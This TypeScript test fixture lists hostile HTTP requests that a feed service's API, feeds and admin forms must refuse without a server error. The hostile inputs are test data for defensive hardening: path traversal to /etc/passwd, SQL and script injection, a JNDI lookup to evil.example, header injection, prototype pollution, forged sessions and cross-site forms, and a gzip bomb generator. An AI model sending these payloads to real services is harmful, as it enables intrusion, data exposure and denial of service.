/** A request that nobody sends who means well, and that must neither be carried out nor cost a 5xx. */
export interface Attack {
  name: string;
  path: string;
  init: RequestInit & { headers?: Record<string, string> };
  /** Who seems to send it. */
  as: 'publisher' | 'stranger';
  /** What the answer has to be; else anything below 500. */
  status?: number;
}

const GOOD = '{"id":"attack","content_text":"x","categories":["attacked"]}';
const JSON_TYPE = { 'Content-Type': 'application/json' };
const times = (text: string, count: number) => text.repeat(count);

function attack(
  as: Attack['as'],
  group: string,
  name: string,
  path: string,
  init: Attack['init'],
  status?: number,
): Attack {
  return { name: `${group}: ${name}`, path, init, as, ...(status === undefined ? {} : { status }) };
}

const CONTENT_TYPES = [
  ...['application/xml', 'text/xml', 'text/html', 'multipart/form-data; boundary=x', 'multipart/mixed', 'image/png'],
  ...['application/octet-stream', 'application/x-tar', 'application/javascript', 'text/javascript', 'text/csv'],
  ...['application/json, text/xml', 'text/xml, application/json', 'application/jsonp', 'application/json5', 'json'],
  ...['application/json/xml', 'application\\json', '*/*', 'application/*', 'x', '/', ',', 'application/ json'],
  ...[
    'application/x-ndjson-seq',
    'application/x-www-form-urlencoded2',
    'text/plainx',
    'message/http',
    'application/cbor',
  ],
  ...['application/msgpack', `application/${times('x', 5000)}`, `${times('a/b;', 1000)}`, 'application/graphql'],
];

const ENCODINGS = ['gzip', 'GZIP', 'x-gzip', 'br', 'deflate', 'compress', 'zstd', 'gzip, gzip', 'identity, gzip'];
const MORE_ENCODINGS = [
  'gzip, identity',
  'chunked',
  'aes128gcm',
  'exi',
  'dcb',
  'none',
  '*',
  'gzip;q=1',
  times('gzip,', 500),
];

/** 10 MB of zeros in 10 KB: what a server that inflates would have to hold. */
export async function bomb(): Promise<Uint8Array> {
  const zeros = new Blob(Array.from({ length: 10 }, () => new Uint8Array(1024 * 1024)));
  return new Response(zeros.stream().pipeThrough(new CompressionStream('gzip'))).bytes();
}

const BODIES: [name: string, body: BodyInit, status: number][] = [
  ['nothing', '', 400],
  ['white space', ' \n\t ', 400],
  ['65 lists', `${times('[', 65)}${times(']', 65)}`, 400],
  ['a million lists', times('[', 1_000_000), 400],
  ['a hundred thousand objects', times('{"a":', 100_000), 400],
  ['depth after a good member', `{"id":"a","content_text":"x","z":${times('[', 64)}1${times(']', 64)}}`, 400],
  ['depth behind an escaped quote', `{"a":"\\\\","b":${times('[', 70)}${times(']', 70)}}`, 400],
  ['an open string', '{"id":"', 400],
  ['an open escape', '{"id":"\\', 400],
  ['an open list', '{"items":[', 400],
  ['a comma too many', '{"id":"a","content_text":"x",}', 400],
  ['a comment', '{"id":"a"/**/,"content_text":"x"}', 400],
  ['single quotes', "{'id':'a'}", 400],
  ['no quotes', '{id:1,content_text:2}', 400],
  ['NaN', '{"id":NaN,"content_text":"x"}', 400],
  ['Infinity', '{"id":Infinity,"content_text":"x"}', 400],
  ['a hexadecimal number', '{"id":0x1,"content_text":"x"}', 400],
  ['an octal number', '{"id":01,"content_text":"x"}', 400],
  ['two documents', '{"id":"a","content_text":"x"}{"id":"b","content_text":"x"}', 400],
  ['a document and rubbish', `${GOOD}\u0000`, 400],
  ['a line end inside a string', '{"id":"a\nb","content_text":"x"}', 400],
  ['half an escape', '{"id":"\\u12","content_text":"x"}', 400],
  ['UTF-16', new Uint8Array([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]), 400],
  ['UTF-32', new Uint8Array([0, 0, 0xfe, 0xff, 0, 0, 0, 0x7b]), 400],
  ['an overlong slash', new Uint8Array([0x22, 0xc0, 0xaf, 0x22]), 400],
  ['an encoded surrogate', new Uint8Array([0x22, 0xed, 0xa0, 0x80, 0x22]), 400],
  ['a character beyond Unicode', new Uint8Array([0x22, 0xf5, 0x80, 0x80, 0x80, 0x22]), 400],
  ['gzip without saying so', new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]), 400],
  ['null', 'null', 400],
  ['a number', '7', 400],
  ['text', '"{}"', 400],
  ['true', 'true', 400],
  ['a list', `[${GOOD}]`, 400],
  ['items that are an object', '{"items":{"0":{}}}', 400],
  ['items that are text', '{"items":"abc"}', 400],
  ['items that are null', '{"items":null}', 400],
  ['items with a length', '{"items":{"length":1,"0":{"id":"a","content_text":"x"}}}', 400],
  ['1,001 articles', `{"items":[${times('1,', 1000)}1]}`, 413],
  ['a million articles', `{"items":[${times('0,', 1_000_000)}0]}`, 413],
  ['no id', '{"content_text":"x"}', 422],
  ['an empty id', '{"id":" ","content_text":"x"}', 422],
  ['an id of one dot', '{"id":".","content_text":"x"}', 422],
  ['an id of two dots', '{"id":"..","content_text":"x"}', 422],
  ['an id that is null', '{"id":null,"content_text":"x"}', 422],
  ['an id that is a list', '{"id":["a"],"content_text":"x"}', 422],
  ['an id that is an object', '{"id":{"toString":"a"},"content_text":"x"}', 422],
  ['an id that is true', '{"id":true,"content_text":"x"}', 422],
  ['an id beyond safe numbers', '{"id":9007199254740993,"content_text":"x"}', 422],
  ['an id beyond numbers', '{"id":1e999,"content_text":"x"}', 422],
  ['an id of 2 KB', `{"id":"${times('x', 2000)}","content_text":"x"}`, 422],
  ['an id with a line end', '{"id":"a\\r\\nSet-Cookie: x=1","content_text":"x"}', 422],
  ['an id with NUL', '{"id":"a\\u0000","content_text":"x"}', 422],
  ['an id with half a character', '{"id":"\\ud800","content_text":"x"}', 422],
  ['an id given twice, the second wrong', '{"id":"attack","id":[],"content_text":"x"}', 422],
  ['content given twice, the second wrong', '{"id":"attack","content_text":"x","content_text":7}', 422],
  ['categories given twice, the second wrong', '{"id":"a","content_text":"x","categories":[],"categories":7}', 422],
  ['nothing to read', '{"id":"attack"}', 422],
  ['content that is an object', '{"id":"a","content_html":{"__html":"x"}}', 422],
  ['content that is a list', '{"id":"a","content_text":["x"]}', 422],
  ['a title that is an object', '{"id":"a","content_text":"x","title":{"a":1}}', 422],
  ['a URL that is a script', '{"id":"a","content_text":"x","url":"javascript:alert(1)"}', 422],
  ['a URL that is data', '{"id":"a","content_text":"x","url":"data:text/html,x"}', 422],
  ['a URL of a file', '{"id":"a","content_text":"x","url":"file:///etc/passwd"}', 422],
  ['a script spelled with a tab', '{"id":"a","content_text":"x","url":"java\\tscript:alert(1)"}', 422],
  ['a date that is none', '{"id":"a","content_text":"x","date_published":"now"}', 422],
  ['a date that is a number', '{"id":"a","content_text":"x","date_published":1}', 422],
  ['a 30th of February', '{"id":"a","content_text":"x","date_published":"2026-02-30T00:00:00Z"}', 422],
  ['a date of 300 KB', `{"id":"a","content_text":"x","date_modified":"${times('2', 300_000)}"}`, 422],
  ['101 categories', `{"id":"a","content_text":"x","categories":[${times('"c",', 100)}"c"]}`, 422],
  ['101 tags', `{"id":"a","content_text":"x","tags":[${times('"c",', 100)}"c"]}`, 422],
  ['101 authors', `{"id":"a","content_text":"x","authors":[${times('{},', 100)}{}]}`, 422],
  ['a category that is a number', '{"id":"a","content_text":"x","categories":[7]}', 422],
  ['a category without a slug', '{"id":"a","content_text":"x","categories":[{"title":"x"}]}', 422],
  ['a category that is a list', '{"id":"a","content_text":"x","categories":[["x"]]}', 422],
  ['an author that is text', '{"id":"a","content_text":"x","authors":["x"]}', 422],
  ['an attachment without a type', '{"id":"a","content_text":"x","attachments":[{"url":"/a"}]}', 422],
  [
    'a type with a line end',
    '{"id":"a","content_text":"x","attachments":[{"url":"/a","mime_type":"a/b\\r\\nX: y"}]}',
    422,
  ],
  [
    'a negative size',
    '{"id":"a","content_text":"x","attachments":[{"url":"/a","mime_type":"a/b","size_in_bytes":-1}]}',
    422,
  ],
  [
    'a size that is endless',
    '{"id":"a","content_text":"x","attachments":[{"url":"/a","mime_type":"a/b","size_in_bytes":1e999}]}',
    422,
  ],
  ['an article of 2 MB', `{"id":"a","content_text":"${times('x', 2_000_000)}"}`, 422],
  ['an article whose member is 2 MB', `{"id":"a","content_text":"x","${times('x', 2_000_000)}":1}`, 422],
  ['__proto__ as the article', '{"__proto__":{"id":"a","content_text":"x"}}', 422],
  ['__proto__ as the id', '{"__proto__":{"polluted":true},"content_text":"x"}', 422],
  ['__proto__ in items', '{"items":[{"__proto__":{"polluted":true}}]}', 422],
  ['a constructor', '{"constructor":{"prototype":{"polluted":true}}}', 422],
  ['__proto__ of a feed', '{"version":"x","__proto__":{"polluted":true},"items":[{}]}', 422],
  [
    '__proto__ as authors of a feed',
    '{"version":"x","authors":{"__proto__":{"polluted":true}},"items":[{"id":"a","content_text":"x"}]}',
    422,
  ],
  ['methods as members', '{"hasOwnProperty":1,"toString":1,"toJSON":1,"valueOf":1,"then":1}', 422],
  ['members named like lists', '{"length":5,"0":{"id":"a"},"map":"x"}', 422],
];

/** Ids and slugs that mean something to a file system, to a database or to a line of a header. */
const NAMES: [name: string, encoded: string][] = [
  ['half a character', '%E0%A4'],
  ['a byte that no UTF-8 holds', '%FF'],
  ['an overlong slash', '%C0%AF'],
  ['an overlong NUL', '%C0%80'],
  ['an overlong dot', '%C0%AE%C0%AE'],
  ['a surrogate', '%ED%A0%80'],
  ['beyond Unicode', '%F5%80%80%80'],
  ['a percent sign alone', '%'],
  ['a percent sign and a digit', '%2'],
  ['no hexadecimal', '%zz'],
  ['one bad among good ones', 'a%E8%B4%A2%E0%A4b'],
  ['Unicode in the way of old browsers', '%u002e%u002e'],
];
const QUIET_NAMES: [name: string, encoded: string][] = [
  ['NUL', '%00'],
  ['a line end', '%0D%0AX-Injected:%201'],
  ['a line feed alone', '%0AX-Injected:%201'],
  ['a Unicode line end', '%E2%80%A8X-Injected:%201'],
  ['steps', '..%2F..%2Fetc%2Fpasswd'],
  ['steps encoded twice', '%252e%252e%252f'],
  ['steps with a backslash', '..%5C..%5Cwindows'],
  ['steps that addresses take', '../../../../etc/passwd'],
  ['encoded steps that addresses take', '%2e%2e/%2e%2e/rss.xml'],
  ['another host', '%2F%2Fevil.example%2F'],
  ['SQL', "a'%20OR%20'1'='1"],
  ['a pattern of SQL', '%25'],
  ['more SQL', '1;DROP%20TABLE%20article'],
  ['a name of an object', '__proto__'],
  ['another', 'constructor'],
  ['a third', 'hasOwnProperty'],
  ['a template', '%7B%7B7*7%7D%7D$%7B7*7%7D'],
  ['a script', '%3Cscript%3Ealert(1)%3C/script%3E'],
  ['right to left', '%E2%80%AEgnp.exe'],
  ['8 KB', times('a', 8000)],
  ['a thousand slashes', times('/', 1000)],
  ['a thousand dots', times('.', 1000)],
];

const CREDENTIALS: [name: string, value: string][] = [
  ['no scheme', 'token-for-tests'],
  ['Basic', `Basic ${btoa('token-for-tests:token-for-tests')}`],
  ['Digest', 'Digest username="token-for-tests"'],
  ['a tab', 'Bearer\ttoken-for-tests'],
  ['a comma', 'Bearer token-for-tests, Bearer x'],
  ['two tokens', 'Bearer token-for-tests another-token-for-tests'],
  ['the list of them', 'Bearer token-for-tests,another-token-for-tests'],
  ['quotes', 'Bearer "token-for-tests"'],
  ['nothing', 'Bearer '],
  ['one letter less', 'Bearer token-for-test'],
  ['one letter more', 'Bearer token-for-testss'],
  ['capitals', 'Bearer TOKEN-FOR-TESTS'],
  ['percent-encoding', 'Bearer token%2Dfor-tests'],
  ['a star', 'Bearer *'],
  ['null', 'Bearer null'],
  ['SQL', "Bearer ' OR 1=1"],
  ['one like ours', `Bearer ef_${times('0', 12)}_${times('0', 64)}`],
  ['10 KB', `Bearer ${times('x', 10_000)}`],
];

const WRITES: [method: string, path: string, body?: string][] = [
  ['POST', '/api/articles', GOOD],
  ['PUT', '/api/articles/attack', GOOD],
  ['DELETE', '/api/articles/kept'],
  ['PUT', '/api/categories/kept', '{"title":"attacked"}'],
  ['POST', '/api/restore', '{}'],
  ['POST', '/api/rebuild'],
  ['POST', '/api/tokens', '{"name":"attack","access":"write"}'],
  ['DELETE', '/api/tokens/kept'],
];

const OVERRIDES = ['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override', 'X-Original-Method'];
const ORIGINS = ['X-Original-URL', 'X-Rewrite-URL', 'X-Forwarded-Path', 'X-Forwarded-Uri', 'X-Forwarded-Prefix'];
const HOSTS = ['X-Forwarded-Host', 'X-Host', 'X-Forwarded-Server', 'Forwarded', 'X-Original-Host', 'Host'];
const ADDRESSES = ['X-Forwarded-For', 'X-Real-IP', 'True-Client-IP', 'Client-IP', 'X-Client-IP', 'X-Cluster-Client-IP'];

const READER_HEADERS: [name: string, headers: Record<string, string>][] = [
  ['a range of everything', { Range: 'bytes=0-' }],
  ['a hundred ranges', { Range: `bytes=${times('0-0,', 100)}0-0` }],
  ['overlapping ranges', { Range: 'bytes=0-10,5-15,-1,9999999999-' }],
  ['a range in another unit', { Range: 'pages=1-2' }],
  ['a range that is none', { Range: 'bytes=z-a' }],
  ['a range on a condition', { Range: 'bytes=5-', 'If-Range': 'W/"1"' }],
  ['a thousand tags', { 'If-None-Match': times('"a",', 1000) }],
  ['a tag of 16 KB', { 'If-None-Match': `"${times('a', 16_000)}"` }],
  ['quotes', { 'If-None-Match': times('"', 4001) }],
  ['W/', { 'If-None-Match': times('W/', 4000) }],
  ['commas', { 'If-None-Match': times(',', 8000) }],
  ['spaces', { 'If-None-Match': `"a"${times(' ', 8000)}x` }],
  ['a version beyond numbers', { 'If-None-Match': `W/"${times('9', 400)}-rss-x"` }],
  ['a date of many digits', { 'If-Modified-Since': `Sun, 22 Nov ${times('2', 4000)} 08:00:00 GMT` }],
  ['a date that is a number', { 'If-Modified-Since': '1' }],
  ['a date before time', { 'If-Modified-Since': 'Thu, 01 Jan -0001 00:00:00 GMT' }],
  ['other conditions', { 'If-Match': '*', 'If-Unmodified-Since': 'x' }],
  ['a manipulation', { 'A-IM': 'feed' }],
  ['many manipulations', { 'A-IM': times('feed, gzip;x=1, vcdiff,', 500) }],
  ['a manipulation that is none', { 'A-IM': ';;;=,="' }],
  ['a delta base', { 'A-IM': 'diffe', 'Delta-Base': '"x"', 'If-None-Match': '"x"' }],
  ['a cookie of 8 KB', { Cookie: `a=${times('x', 8000)}` }],
  ['a thousand cookies', { Cookie: times('a=1; ', 1000) }],
  ['a forged session', { Cookie: `edgefeed_session=99999999999.${times('0', 64)}` }],
  ['what it takes, at length', { Accept: times('text/html;q=0.1,', 900) }],
  ['no encoding', { 'Accept-Encoding': 'identity;q=0, *;q=0' }],
  ['a language that is none', { 'Accept-Language': times('a-', 4000) }],
  ['an agent with a pattern', { 'User-Agent': `${'$'}{jndi:ldap://evil.example/a}` }],
  ['a referrer that is a script', { Referer: 'javascript:alert(1)' }],
  ['an expectation', { Expect: '100-continue' }],
  ['another connection', { Connection: 'Upgrade', Upgrade: 'h2c' }],
  ['a web socket', { Upgrade: 'websocket' }],
  ['a purge', { 'Cache-Tag': 'edgefeed', 'Surrogate-Key': 'all', 'Cache-Control': 'no-cache, no-store' }],
  ['a trace', { 'CF-Ray': times('x', 4000), traceparent: times('0', 4000) }],
  ['200 headers', Object.fromEntries(Array.from({ length: 200 }, (_, n) => [`X-Header-${n}`, times('x', 50)]))],
];

const QUERIES = [
  `?${times('a=1&', 3000)}`,
  `?${times('a', 8000)}`,
  '?__proto__[polluted]=1',
  '?constructor.prototype.polluted=1',
  '?page=-1',
  '?page=99999999999999999999',
  '?page[]=1&page[]=2',
  `?q=${times('%25', 2000)}`,
  `?q=${times('(a%2B)%2B', 500)}!`,
  '?q=%00%0D%0A',
  '?q=%E0%A4',
  '?%0d%0aX-Injected:%201',
  '?group=%F0%9F%92%A9',
  '?_method=DELETE',
];

const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };
const OURS = { ...FORM, Origin: 'https://feeds.example.com' };
const PARAMETERS = [
  ...[
    '?limit=-1',
    '?limit=1e9',
    '?limit=500&limit=x',
    "?channel=all'--",
    '?channel=category/%00',
    '?channel=category/..%2f',
  ],
  ...['?channel=__proto__/x', '?state=__proto__', '?since=9999-99-99T99:99:99Z', '?since=+275760-09-13T00:00:00.001Z'],
  ...['?cursor=1.1.1.', '?cursor=-999999999999999.0.0.ffffffff', `?cursor=${times('9', 5000)}`, '?move=', '?move=kept'],
  ...['?move=%00', '?move=../x&x=1', `?${times('x', 5000)}=1`],
];

const FORMS: [path: string, body: string][] = [
  ['/admin/write', 'id=attack&content_html=x&categories=attacked'],
  ['/admin/delete', 'id=kept&sure=yes'],
  ['/admin/category', 'slug=kept&title=attacked'],
  ['/admin/sign-in', 'token=wrong'],
  ['/admin/sign-in', `token=${times('x', 100_000)}`],
  ['/admin/sign-in', 'token=%E0%A4&token=%00'],
  ['/admin/nothing', 'a=b'],
];

export const ATTACKS: Attack[] = [
  ...CONTENT_TYPES.map((type) =>
    attack(
      'publisher',
      'a content type',
      type.slice(0, 60),
      '/api/articles',
      { method: 'POST', body: GOOD, headers: { 'Content-Type': type } },
      415,
    ),
  ),
  ...[...ENCODINGS, ...MORE_ENCODINGS].flatMap((encoding) => [
    attack(
      'publisher',
      'a coding',
      `${encoding.slice(0, 40)} of a batch`,
      '/api/articles',
      { method: 'POST', body: GOOD, headers: { ...JSON_TYPE, 'Content-Encoding': encoding } },
      415,
    ),
    attack(
      'publisher',
      'a coding',
      `${encoding.slice(0, 40)} of an article`,
      '/api/articles/attack',
      { method: 'PUT', body: GOOD, headers: { ...JSON_TYPE, 'Content-Encoding': encoding } },
      415,
    ),
  ]),
  ...BODIES.flatMap(([name, body, status]) => [
    attack('publisher', 'a body of', name, '/api/articles', { method: 'POST', body, headers: JSON_TYPE }, status),
    attack('stranger', 'a body of', name, '/api/articles', { method: 'POST', body, headers: JSON_TYPE }, 401),
  ]),
  ...NAMES.flatMap(([name, encoded]) => [
    attack(
      'publisher',
      'an id of',
      name,
      `/api/articles/${encoded}`,
      { method: 'PUT', body: '{"content_text":"x"}' },
      400,
    ),
    attack('publisher', 'a deleted id of', name, `/api/articles/${encoded}`, { method: 'DELETE' }, 400),
    attack(
      'publisher',
      'a category of',
      name,
      `/api/categories/${encoded}`,
      { method: 'PUT', body: '{"title":"x"}' },
      400,
    ),
    attack('stranger', 'a feed of', name, `/category/${encoded}/rss.xml`, {}),
  ]),
  ...QUIET_NAMES.flatMap(([name, encoded], index) => {
    const kind = ['category', 'tag', 'author'][index % 3];
    return [
      attack('publisher', 'a deleted id of', name, `/api/articles/${encoded}`, { method: 'DELETE' }),
      attack('publisher', 'an id to read of', name, `/api/articles/${encoded}`, {}),
      attack('publisher', 'a revoked token of', name, `/api/tokens/${encoded}`, { method: 'DELETE' }),
      attack(
        'stranger',
        'a feed of',
        name,
        `/${kind}/${encoded}/${['rss.xml', 'atom.xml', 'feed.json'][index % 3]}`,
        {},
      ),
      attack('stranger', 'a page of', name, `/${kind}/${encoded}`, {}),
      attack('stranger', 'an archive of', name, `/${kind}/${encoded}/archive/1/atom.xml`, {}),
      attack('stranger', 'an old address of', name, `/feed/${encoded}.xml`, {}),
    ];
  }),
  ...WRITES.flatMap(([method, path, body], which) =>
    CREDENTIALS.map(([name, Authorization], index) =>
      attack(
        'stranger',
        `${method} ${path} with`,
        name,
        path,
        {
          method,
          headers: { ...JSON_TYPE, Authorization, 'CF-Connecting-IP': `192.0.${which}.${index}` },
          ...(body === undefined ? {} : { body }),
        },
        401,
      ),
    ),
  ),
  ...OVERRIDES.flatMap((header) => [
    attack(
      'publisher',
      'another method by',
      `${header} on an article`,
      '/api/articles/kept',
      { headers: { [header]: 'DELETE' } },
      200,
    ),
    attack(
      'publisher',
      'another method by',
      `${header} on a token`,
      '/api/tokens',
      { headers: { [header]: 'POST' } },
      200,
    ),
    attack('stranger', 'another method by', `${header} on a feed`, '/rss.xml', { headers: { [header]: 'PURGE' } }, 200),
  ]),
  ...ORIGINS.map((header) =>
    attack('stranger', 'another address by', header, '/rss.xml', { headers: { [header]: '/api/export' } }, 200),
  ),
  ...HOSTS.flatMap((header) => [
    attack('stranger', 'another host by', `${header} at a feed`, '/category/KEPT/rss.xml', {
      headers: { [header]: 'evil.example' },
    }),
    attack('stranger', 'another host by', `${header} at a page`, '/', { headers: { [header]: 'evil.example' } }),
  ]),
  ...ADDRESSES.map((header) =>
    attack(
      'stranger',
      'another address by',
      header,
      '/api/articles/kept',
      { method: 'DELETE', headers: { [header]: '127.0.0.1' } },
      401,
    ),
  ),
  ...READER_HEADERS.flatMap(([name, headers]) => [
    attack('stranger', 'a feed asked with', name, '/rss.xml', { headers }),
    attack('stranger', 'a page asked with', name, '/category/kept', { headers }),
  ]),
  ...QUERIES.flatMap((query) =>
    ['/rss.xml', '/', '/category/kept', '/admin', '/feeds.opml'].map((path) =>
      attack('stranger', `a query of ${path}`, query.slice(0, 40), `${path}${query}`, {}),
    ),
  ),
  ...[...QUERIES, ...PARAMETERS].flatMap((query) => [
    attack('publisher', 'a list asked with', query.slice(0, 40), `/api/articles${query}`, {}),
    attack('publisher', 'a category deleted with', query.slice(0, 40), `/api/categories/kept${query}`, {
      method: 'DELETE',
    }),
  ]),
  ...FORMS.flatMap(([path, body], which) => [
    attack(
      'stranger',
      'a form to',
      `${path} ${body.slice(0, 30)}`,
      path,
      { method: 'POST', body, headers: { ...OURS, 'CF-Connecting-IP': `198.51.100.${which}` } },
      403,
    ),
    attack(
      'stranger',
      'a form of another site to',
      `${path} ${body.slice(0, 30)}`,
      path,
      { method: 'POST', body, headers: { ...FORM, Origin: 'https://evil.example' } },
      403,
    ),
    attack(
      'stranger',
      'a form of no site to',
      `${path} ${body.slice(0, 30)}`,
      path,
      { method: 'POST', body, headers: { ...FORM, Origin: 'null' } },
      403,
    ),
    attack(
      'stranger',
      'a form with a forged session to',
      `${path} ${body.slice(0, 30)}`,
      path,
      {
        method: 'POST',
        body,
        headers: {
          ...OURS,
          Cookie: `edgefeed_session=99999999999.${times('ab', 32)}`,
          'CF-Connecting-IP': `198.51.100.1${which}`,
        },
      },
      403,
    ),
  ]),
  ...['PATCH', 'PROPFIND', 'MKCOL', 'LOCK', 'PURGE', 'COPY', 'UNSUBSCRIBE', 'MKACTIVITY'].flatMap((method) => [
    attack('publisher', 'a method', `${method} of an article`, '/api/articles/kept', { method }, 405),
    attack('publisher', 'a method', `${method} of a token`, '/api/tokens/kept', { method }, 405),
    attack('stranger', 'a method', `${method} of a feed`, '/rss.xml', { method }, 405),
    attack('stranger', 'a method', `${method} of a page`, '/', { method }),
  ]),
];
